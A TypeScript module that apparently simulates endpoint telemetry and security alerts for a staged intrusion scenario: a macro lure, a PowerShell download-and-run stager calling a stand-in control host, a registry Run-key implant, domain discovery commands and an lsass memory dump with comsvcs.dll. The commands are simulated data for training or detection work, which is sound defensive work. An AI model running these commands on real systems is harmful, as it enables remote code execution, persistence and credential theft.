import type { Alert } from './alerts';
import type { FileOnDisk, Process } from './ledger';
import { program } from './programs';
import { encoded, home, INTRUDER, LURE, type Scene } from './storyCast';

const SECOND = 1_000;
const MINUTE = 60 * SECOND;

const POWERSHELL = program('windows', 'powershell.exe');
const POWERSHELL_FILE: FileOnDisk = { ...POWERSHELL, content: `${POWERSHELL.name} ${POWERSHELL.version}` };
const STAGER = `-nop -w hidden -enc ${encoded(`IEX (New-Object Net.WebClient).DownloadString('https://${INTRUDER.control.url}/a.ps1')`)}`;

/** The victim opens the lure; its macro starts PowerShell, which calls home and settles in. */
export function openLure(scene: Scene): { shell: Process; alerts: Alert[] } {
  const { ledger, machine, victim, begins, random } = scene;
  const at = begins + 14 * MINUTE;
  const outlook = scene.running(machine, 'outlook.exe');
  const folder = `${home(scene)}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K3B7Q9ZT`;
  ledger.change(outlook, { at, action: 'FileCreated', file: { ...LURE, folder } });
  const word = ledger.start(machine, 'winword.exe', {
    at: at + 4 * SECOND,
    parent: outlook,
    account: victim.id,
    commandLine: `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "${folder}\\${LURE.name}" /o ""`,
  });
  ledger.load(word, at + 19 * SECOND, {
    folder: 'C:\\Program Files\\Microsoft Office\\root\\vfs\\ProgramFilesCommonX64\\Microsoft Shared\\VBA\\VBA7.1',
    name: 'VBE7.DLL',
    size: 3_552_688,
  });
  const commandLine = `powershell.exe ${STAGER}`;
  const shell = ledger.start(machine, 'powershell.exe', {
    at: at + 26 * SECOND,
    parent: word,
    account: victim.id,
    commandLine,
  });
  ledger.start(machine, 'conhost.exe', {
    at: at + 26.2 * SECOND,
    parent: shell,
    account: victim.id,
    commandLine: '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
  });
  ledger.event(shell, { at: at + 29 * SECOND, action: 'PowerShellCommand', details: { Command: 'Invoke-Expression' } });
  settleIn(scene, shell, at + MINUTE);
  for (let beat = at + 31 * SECOND; beat < ledger.end; beat += 5 * MINUTE + random.int(-20, 20) * SECOND) {
    const { ip, port, url } = INTRUDER.control;
    ledger.connect(shell, { at: beat, ip, port, url, localPort: random.int(49_152, 65_535) });
  }
  return { shell, alerts: [suspiciousStart(scene, at + 3 * MINUTE, { process: shell, commandLine })] };
}

/** A script that comes back with every sign-in. */
function settleIn({ ledger, victim, ...scene }: Scene, shell: Process, at: number): void {
  const folder = `${home({ ledger, victim, ...scene })}\\AppData\\Roaming\\Harbor`;
  ledger.change(shell, {
    at,
    action: 'FileCreated',
    file: { folder, name: 'sync.ps1', size: 7_214, content: 'sync.ps1, the implant' },
    origin: `https://${INTRUDER.control.url}/sync.ps1`,
  });
  ledger.register(shell, {
    at: at + 2 * SECOND,
    key: `HKEY_CURRENT_USER\\${victim.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run`,
    name: 'HarborSync',
    data: `powershell.exe -w hidden -ep bypass -f "${folder}\\sync.ps1"`,
  });
}

function suspiciousStart(
  { machine, victim }: Scene,
  at: number,
  started: { process: Process; commandLine: string }
): Alert {
  return {
    at,
    title: 'Suspicious PowerShell started by Microsoft Word',
    category: 'Execution',
    severity: 'Medium',
    source: 'Microsoft Defender for Endpoint',
    detection: 'EDR',
    techniques: ['PowerShell (T1059.001)', 'Malicious File (T1204.002)'],
    evidence: [
      { kind: 'Machine', device: machine },
      { kind: 'User', person: victim },
      { kind: 'Process', device: machine, file: POWERSHELL_FILE, ...started },
      { kind: 'Ip', ip: INTRUDER.control.ip },
    ],
  };
}

const QUESTIONS: readonly (readonly [program: string, commandLine: string])[] = [
  ['whoami.exe', 'whoami /all'],
  ['systeminfo.exe', 'systeminfo'],
  ['ipconfig.exe', 'ipconfig /all'],
  ['net.exe', 'net user /domain'],
  ['net.exe', 'net group "Domain Admins" /domain'],
  ['nltest.exe', 'nltest /domain_trusts /all_trusts'],
  ['net.exe', 'net view /domain'],
];

/** The intruder asks who and where they are. */
export function lookAround({ ledger, machine, victim, begins, random }: Scene, shell: Process): Alert[] {
  let at = begins + 27 * MINUTE;
  for (const [name, commandLine] of QUESTIONS) {
    at += random.int(8, 50) * SECOND;
    const process = ledger.start(machine, name, { at, parent: shell, account: victim.id, commandLine });
    if (name === 'net.exe') {
      const again = commandLine.replace('net ', 'C:\\Windows\\system32\\net1 ');
      ledger.start(machine, 'net1.exe', { at: at + 60, parent: process, account: victim.id, commandLine: again });
    }
  }
  return [
    {
      at: at + 4 * MINUTE,
      title: 'Suspicious sequence of exploration activities',
      category: 'Discovery',
      severity: 'Low',
      source: 'Microsoft Defender for Endpoint',
      detection: 'EDR',
      techniques: ['System Owner/User Discovery (T1033)', 'Domain Trust Discovery (T1482)'],
      evidence: [
        { kind: 'Machine', device: machine },
        { kind: 'User', person: victim },
      ],
    },
  ];
}

/** The memory of lsass is written to a file, where an administrator's password is found. */
export function findCredentials({ ledger, machine, victim, begins }: Scene, shell: Process): Alert[] {
  const at = begins + 71 * MINUTE;
  const dump: FileOnDisk = {
    folder: 'C:\\ProgramData\\Comms',
    name: 'd.dmp',
    size: 58_720_256,
    content: 'd.dmp, lsass',
  };
  const commandLine = `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 684 ${dump.folder}\\${dump.name} full`;
  const process = ledger.start(machine, 'rundll32.exe', { at, parent: shell, account: victim.id, commandLine });
  ledger.load(process, at + 200, { folder: 'C:\\Windows\\System32', name: 'comsvcs.dll', size: 1_884_160 });
  const lsass = program('windows', 'lsass.exe');
  ledger.event(process, {
    at: at + 400,
    action: 'OpenProcessApiCall',
    file: { ...lsass, content: `${lsass.name} ${lsass.version}` },
    targetPid: 684,
    details: { DesiredAccess: 2097151 },
  });
  ledger.change(process, { at: at + 900, action: 'FileCreated', file: dump });
  return [
    {
      at: at + 2 * MINUTE,
      title: 'Sensitive credential memory read',
      category: 'CredentialAccess',
      severity: 'High',
      source: 'Microsoft Defender for Endpoint',
      detection: 'EDR',
      techniques: ['LSASS Memory (T1003.001)'],
      evidence: [
        { kind: 'Machine', device: machine },
        { kind: 'User', person: victim },
        { kind: 'File', device: machine, file: dump },
      ],
    },
  ];
}
